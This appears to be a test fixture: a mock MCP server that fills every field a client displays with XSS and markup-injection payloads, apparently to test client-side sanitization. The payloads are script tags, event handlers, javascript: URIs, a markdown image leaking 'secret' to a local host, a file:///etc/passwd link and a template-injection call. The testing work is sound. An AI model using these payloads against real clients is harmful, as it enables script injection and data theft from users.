import { stdio } from '../lib.mjs';

const x = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '<svg onload="window.__pwned=3"><a href="javascript:window.__pwned=4"><text y="9">click</text></a></svg>',
  '![leak](http://127.0.0.1:9/leak?d=secret)',
  '[click](javascript:window.__pwned=5)',
  '[file](file:///etc/passwd)',
  '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<form action="http://example.test/"><input name=p autofocus></form>',
  '</pre></textarea><b>out</b>',
  '{{constructor.constructor("window.__pwned=7")()}}',
  'https://example.test/a very long link',
  '<a href="http://example.test@127.0.0.1/">example.test</a>',
  '`code` **bold** <details open ontoggle="window.__pwned=8">',
].join('\n\n');
const b64 = (s) => Buffer.from(s).toString('base64');
stdio({
  name: `markup ${x}`,
  caps: { tools: {}, prompts: {}, resources: {} },
  tools: [
    {
      name: 'markup',
      title: x,
      description: x,
      inputSchema: {
        type: 'object',
        title: x,
        properties: { a: { type: 'string', title: x, description: x, default: x, enum: [x, 'b'] } },
      },
    },
  ],
  on: {
    initialize: (p) => ({
      protocolVersion: p.protocolVersion,
      capabilities: { tools: {}, prompts: {}, resources: {} },
      serverInfo: { name: `markup <b>bold</b>`, title: x, version: x, websiteUrl: 'javascript:window.__pwned=9' },
      instructions: x,
    }),
    'tools/call': () => ({
      content: [
        { type: 'text', text: x },
        {
          type: 'resource',
          resource: { uri: 'ui://demo/app', mimeType: 'text/html', text: `<html><body>${x}</body></html>` },
        },
        { type: 'image', mimeType: 'image/svg+xml', data: b64(`<svg xmlns="http://www.w3.org/2000/svg">${x}</svg>`) },
        { type: 'resource_link', uri: 'javascript:window.__pwned=10', name: x },
      ],
      structuredContent: { [x]: x },
    }),
    'prompts/list': () => ({ prompts: [{ name: 'p', description: x, arguments: [{ name: 'a', description: x }] }] }),
    'resources/list': () => ({
      resources: [{ uri: 'javascript:window.__pwned=11', name: x, description: x, mimeType: 'text/html' }],
    }),
    'resources/read': (p) => ({ contents: [{ uri: p.uri, mimeType: 'text/html', text: x }] }),
  },
});
